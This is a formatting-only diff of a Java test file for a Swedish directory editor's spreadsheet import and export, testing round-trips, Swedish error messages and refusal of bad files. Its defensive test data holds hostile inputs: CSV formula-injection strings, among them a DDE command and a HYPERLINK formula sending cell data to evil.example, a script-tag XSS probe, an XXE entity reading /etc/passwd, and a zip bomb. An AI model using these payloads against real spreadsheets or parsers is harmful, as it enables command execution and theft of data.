@@ -39,9 +39,12 @@ import se.forstasamtalet.editor.SheetReview.Standing;
 class SheetTest {
 
     private static final List<Listing> REAL = ContentFolder.read(Path.of("content")).listings();
-    private static final Map<UUID, Standing> MINE = REAL.stream().collect(Collectors.toMap(Listing::id, listing -> new Standing(listing, 3, false)));
-    private static final Sheet SHEET = Sheet.of(REAL, REAL.stream().collect(Collectors.toMap(Listing::id, listing -> 3)));
-    private static final Listing NACKA = REAL.stream().filter(listing -> listing.slug().text().equals("atv-nacka")).findFirst().orElseThrow();
+    private static final Map<UUID, Standing> MINE = REAL.stream()
+            .collect(Collectors.toMap(Listing::id, listing -> new Standing(listing, 3, false)));
+    private static final Sheet SHEET = Sheet.of(REAL,
+            REAL.stream().collect(Collectors.toMap(Listing::id, listing -> 3)));
+    private static final Listing NACKA = REAL.stream().filter(listing -> listing.slug().text().equals("atv-nacka"))
+            .findFirst().orElseThrow();
 
     @Test
     void everyRealListingComesBackFromAFileAsItWas() {
@@ -52,7 +55,8 @@ class SheetTest {
                 Map<String, String> fields = new LinkedHashMap<>(read.rows().get(i).cells());
                 fields.remove(Sheet.FOLDER);
                 fields.remove(Sheet.REVISION);
-                assertEquals(REAL.get(i), Documents.read(Fields.document(fields).toString(), REAL.get(i).listingKind()));
+                assertEquals(REAL.get(i),
+                        Documents.read(Fields.document(fields).toString(), REAL.get(i).listingKind()));
             }
             assertEquals(new SheetReview(List.of(), List.of(), REAL.size(), List.of(), Set.of()), review(read));
         }
@@ -65,15 +69,19 @@ class SheetTest {
         assertTrue(columns.indexOf("phones[0].number") < columns.indexOf("phones[0].source"));
         assertTrue(columns.indexOf("schedules[0].assured_date") < columns.indexOf("schedules[1].byday"));
         assertTrue(columns.indexOf("places[9].name") < columns.indexOf("places[10].name"));
-        assertTrue(SheetFile.csv(SHEET).length < SheetFile.LARGEST && SheetFile.xlsx(SHEET).length < SheetFile.LARGEST, "the whole directory fits");
+        assertTrue(SheetFile.csv(SHEET).length < SheetFile.LARGEST && SheetFile.xlsx(SHEET).length < SheetFile.LARGEST,
+                "the whole directory fits");
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1)", "+46 8 123 45 67", "-1+1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠x",
-        "'already", "''twice", "'=1", "08-465 004 01", "020-555 666", "0812", "2026-06-04", "08:30", "1-2", "1e5", "3 mars", "true", "FALSE", "|x", "%0A=1",
+    @ValueSource(strings = {"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1)",
+        "+46 8 123 45 67", "-1+1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠x",
+        "'already", "''twice", "'=1", "08-465 004 01", "020-555 666", "0812", "2026-06-04", "08:30", "1-2", "1e5",
+        "3 mars", "true", "FALSE", "|x", "%0A=1",
         "a;b", "a\"b", "a\nb", "=1;\"\n\"=2", "<script>alert(1)</script>", "00:00", "112", "5", "1,5", "(08) 12"})
     void whatASpreadsheetWouldTakeForSomethingElseIsInertAndComesBack(String text) throws IOException {
-        Sheet sheet = new Sheet(List.of("id", "name", "text"), List.of(new Sheet.Row(2, Map.of("id", "x", "name", text, "text", text + " och mer"))));
+        Sheet sheet = new Sheet(List.of("id", "name", "text"),
+                List.of(new Sheet.Row(2, Map.of("id", "x", "name", text, "text", text + " och mer"))));
         byte[] csv = SheetFile.csv(sheet);
         String line = new String(csv, StandardCharsets.UTF_8).lines().skip(1).collect(Collectors.joining("\n"));
         for (String cell : line.split(";(?=[\"'=+@-])")) {
@@ -97,15 +105,20 @@ class SheetTest {
     @Test
     void everyChangeIsToldWithWhatItWasAndWhatItWillBe() {
         SheetReview review = review(changed(Map.of("name", "ATV i Nacka", "alternate_name", "")));
-        assertEquals(List.of(new Change("name", "ATV Nacka", "ATV i Nacka"), new Change("alternate_name", "Alternativ till våld Nacka", "")), sorted(only(review).changes()));
+        assertEquals(
+                List.of(new Change("name", "ATV Nacka", "ATV i Nacka"),
+                        new Change("alternate_name", "Alternativ till våld Nacka", "")),
+                sorted(only(review).changes()));
         assertTrue(only(review).isFit());
-        assertEquals("ATV i Nacka", Documents.read(Fields.document(only(review).fields()).toString(), Listing.Kind.SERVICES).name());
+        assertEquals("ATV i Nacka",
+                Documents.read(Fields.document(only(review).fields()).toString(), Listing.Kind.SERVICES).name());
     }
 
     @Test
     void whatIsAppliedIsWhatWasShown() {
         RowReview shown = only(review(changed(Map.of("name", "ATV i Nacka", "alternate_name", ""))));
-        Sheet again = new Sheet(List.copyOf(shown.cells().keySet()), List.of(new Sheet.Row(shown.number(), shown.cells())));
+        Sheet again = new Sheet(List.copyOf(shown.cells().keySet()),
+                List.of(new Sheet.Row(shown.number(), shown.cells())));
         assertEquals(shown.fields(), only(review(again)).fields());
     }
 
@@ -123,25 +136,38 @@ class SheetTest {
         "name                | ''               | name                | Här måste något stå.",
         "open_talks.offered  | kanske           | open_talks.offered  | Ett av orden yes, no, unknown.",
         "capacity.therapists | fem              | capacity.therapists | Ett heltal.",
-        "slug                | atv              | slug                | Namnet i adressen ändras aldrig: det står på tryckta kort. Skriv atv-nacka.",
-        "folder              | areas            | folder              | Här ska det stå services: en post byter inte slag.",
-        "revision            | 2                | revision            | Raden bygger på version 2, men version 3 står på webbplatsen nu. Hämta filen på nytt och gör om ändringen.",
+        "slug                | atv              | slug                | Namnet i adressen ändras aldrig: det står på "
+                + "tryckta kort. Skriv atv-nacka.",
+        "folder              | areas            | folder              | Här ska det stå services: en post byter inte "
+                + "slag.",
+        "revision            | 2                | revision            | Raden bygger på version 2, men version 3 "
+                + "står på webbplatsen nu. Hämta filen på nytt och gör om ändringen.",
         "revision            | ny               | revision            | Här ska versionens nummer stå, 3."
     })
     void anErrorIsToldByRowAndFieldInSwedish(String column, String cell, String field, String words) {
         RowReview row = only(review(changed(Map.of(column, cell))));
         assertFalse(row.isFit());
-        assertEquals(SHEET.rows().stream().filter(one -> one.cell("slug").equals("atv-nacka")).findFirst().orElseThrow().number(), row.number());
-        assertTrue(row.problems().stream().anyMatch(problem -> problem.field().equals(field) && (problem.words().equals(words) || field.equals("methods.source"))), row.problems().toString());
+        assertEquals(SHEET.rows().stream().filter(one -> one.cell("slug").equals("atv-nacka")).findFirst().orElseThrow()
+                .number(), row.number());
+        assertTrue(
+                row.problems().stream()
+                        .anyMatch(problem -> problem.field().equals(field)
+                                && (problem.words().equals(words) || field.equals("methods.source"))),
+                row.problems().toString());
     }
 
     @Test
     void columnsThatNobodyKnowsAreToldAndNoRowIsRead() {
         SheetReview review = review(withColumns("anteckningar", "name", "", "phones[0].colour"));
-        assertEquals(List.of("Kolumnen anteckningar finns inte i registret. Ta bort den, eller rätta namnet.", "Kolumnen name finns två gånger. Ta bort den ena.",
-                "Kolumnen phones[0].colour finns inte i registret. Ta bort den, eller rätta namnet."), review.columns());
+        assertEquals(
+                List.of("Kolumnen anteckningar finns inte i registret. Ta bort den, eller rätta namnet.",
+                        "Kolumnen name finns två gånger. Ta bort den ena.",
+                        "Kolumnen phones[0].colour finns inte i registret. Ta bort den, eller rätta namnet."),
+                review.columns());
         assertEquals(List.of(), review.rows());
-        assertEquals(List.of("Kolumnen id fattas. Den behövs för att veta vad raden handlar om.", "Kolumnen revision fattas. Den behövs för att veta vad raden handlar om."),
+        assertEquals(
+                List.of("Kolumnen id fattas. Den behövs för att veta vad raden handlar om.",
+                        "Kolumnen revision fattas. Den behövs för att veta vad raden handlar om."),
                 review(new Sheet(List.of("name"), List.of())).columns());
     }
 
@@ -153,7 +179,8 @@ class SheetTest {
         assertEquals(REAL.size() - 1, review.refused().size());
         Sheet.Row unknown = new Sheet.Row(2, Map.of("id", UUID.randomUUID().toString(), "revision", "3"));
         Sheet.Row foreign = new Sheet.Row(3, Map.of("id", REAL.get(0).id().toString(), "revision", "3"));
-        List<RowReview> rows = SheetReview.of(new Sheet(List.of("id", "revision"), List.of(unknown, foreign)), nackaOnly, all, SheetTest::problems).rows();
+        List<RowReview> rows = SheetReview.of(new Sheet(List.of("id", "revision"), List.of(unknown, foreign)),
+                nackaOnly, all, SheetTest::problems).rows();
         assertEquals(rows.get(0).problems(), rows.get(1).problems());
         assertEquals("", rows.get(1).name(), "not even its name");
     }
@@ -170,15 +197,19 @@ class SheetTest {
 
     @Test
     void aDraftIsNotWrittenOver() {
-        SheetReview review = SheetReview.of(changed(Map.of("name", "Ny")), Map.of(NACKA.id(), new Standing(NACKA, 3, true)), Set.of(), SheetTest::problems);
+        SheetReview review = SheetReview.of(changed(Map.of("name", "Ny")),
+                Map.of(NACKA.id(), new Standing(NACKA, 3, true)), Set.of(), SheetTest::problems);
         assertTrue(review.rows().stream().noneMatch(RowReview::isFit));
     }
 
     @Test
     void aFileWithCommasOrWithoutAMarkIsReadToo() {
         String id = NACKA.id().toString();
-        assertEquals("ATV; Nacka", SheetFile.read(("id,revision,name\r\n" + id + ",3,ATV; Nacka\r\n").getBytes(StandardCharsets.UTF_8)).rows().get(0).cell("name"));
-        assertEquals("ATV", SheetFile.read(("id\trevision\tname\n" + id + "\t3\tATV").getBytes(StandardCharsets.UTF_8)).rows().get(0).cell("name"));
+        assertEquals("ATV; Nacka",
+                SheetFile.read(("id,revision,name\r\n" + id + ",3,ATV; Nacka\r\n").getBytes(StandardCharsets.UTF_8))
+                        .rows().get(0).cell("name"));
+        assertEquals("ATV", SheetFile.read(("id\trevision\tname\n" + id + "\t3\tATV").getBytes(StandardCharsets.UTF_8))
+                .rows().get(0).cell("name"));
     }
 
     @Test
@@ -186,7 +217,8 @@ class SheetTest {
         ByteArrayOutputStream bytes = new ByteArrayOutputStream();
         try (Workbook workbook = new Workbook(bytes, "Test", "1.0")) {
             Worksheet page = workbook.newWorksheet("Blad1");
-            List.of("id", "day", "hour", "count", "truth").forEach(name -> page.value(0, List.of("id", "day", "hour", "count", "truth").indexOf(name), name));
+            List.of("id", "day", "hour", "count", "truth")
+                    .forEach(name -> page.value(0, List.of("id", "day", "hour", "count", "truth").indexOf(name), name));
             page.value(1, 0, "x");
             page.value(1, 1, 46177);
             page.style(1, 1).format("yyyy-mm-dd").set();
@@ -195,7 +227,8 @@ class SheetTest {
             page.value(1, 3, 120);
             page.value(1, 4, true);
         }
-        assertEquals(Map.of("id", "x", "day", "2026-06-04", "hour", "08:30", "count", "120", "truth", "true"), SheetFile.read(bytes.toByteArray()).rows().get(0).cells());
+        assertEquals(Map.of("id", "x", "day", "2026-06-04", "hour", "08:30", "count", "120", "truth", "true"),
+                SheetFile.read(bytes.toByteArray()).rows().get(0).cells());
     }
 
     @Test
@@ -213,7 +246,7 @@ class SheetTest {
     void whatIsNoSheetOrTooMuchIsRefusedInSwedish() throws IOException {
         assertTrue(complaint(new byte[SheetFile.LARGEST + 1]).contains("större än 2 MB"));
         assertTrue(complaint(new byte[0]).contains("tom"));
-        assertTrue(complaint(new byte[] {(byte) 0xff, (byte) 0xfe, 'i', 0}).contains("CSV i UTF-8"));
+        assertTrue(complaint(new byte[]{(byte) 0xff, (byte) 0xfe, 'i', 0}).contains("CSV i UTF-8"));
         assertTrue(complaint("id;\"x\n".repeat(3).getBytes(StandardCharsets.UTF_8)).contains("CSV"));
         assertTrue(complaint("id\n".concat("x\n".repeat(3_000)).getBytes(StandardCharsets.UTF_8)).contains("rader"));
         assertTrue(complaint("id;".repeat(3_000).getBytes(StandardCharsets.UTF_8)).contains("kolumner"));
@@ -223,14 +256,18 @@ class SheetTest {
 
     @Test
     void aSmallFileThatUnpacksToALotIsRefused() throws IOException {
-        byte[] bomb = withPart(SheetFile.xlsx(SHEET), "xl/worksheets/sheet2.xml", " ".repeat(1024 * 1024).getBytes(StandardCharsets.UTF_8), 60);
+        byte[] bomb = withPart(SheetFile.xlsx(SHEET), "xl/worksheets/sheet2.xml",
+                " ".repeat(1024 * 1024).getBytes(StandardCharsets.UTF_8), 60);
         assertTrue(bomb.length < SheetFile.LARGEST);
         assertTrue(complaint(bomb).contains("XLSX"));
     }
 
     @Test
     void aFileThatDefinesWordsOfItsOwnIsRefused() throws IOException {
-        byte[] entities = withPart(SheetFile.xlsx(SHEET), "xl/other.xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>".getBytes(StandardCharsets.UTF_8), 1);
+        byte[] entities = withPart(SheetFile.xlsx(SHEET), "xl/other.xml",
+                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>"
+                        .getBytes(StandardCharsets.UTF_8),
+                1);
         assertTrue(complaint(entities).contains("XLSX"));
     }
 
@@ -286,7 +323,8 @@ class SheetTest {
 
     private static byte[] withPart(byte[] zip, String name, byte[] content, int times) throws IOException {
         ByteArrayOutputStream bytes = new ByteArrayOutputStream();
-        try (ZipFile parts = ZipFile.builder().setSeekableByteChannel(new SeekableInMemoryByteChannel(zip)).get(); ZipOutputStream out = new ZipOutputStream(bytes)) {
+        try (ZipFile parts = ZipFile.builder().setSeekableByteChannel(new SeekableInMemoryByteChannel(zip)).get();
+                ZipOutputStream out = new ZipOutputStream(bytes)) {
             for (ZipArchiveEntry part : Collections.list(parts.getEntries())) {
                 out.putNextEntry(new ZipEntry(part.getName()));
                 parts.getInputStream(part).transferTo(out);
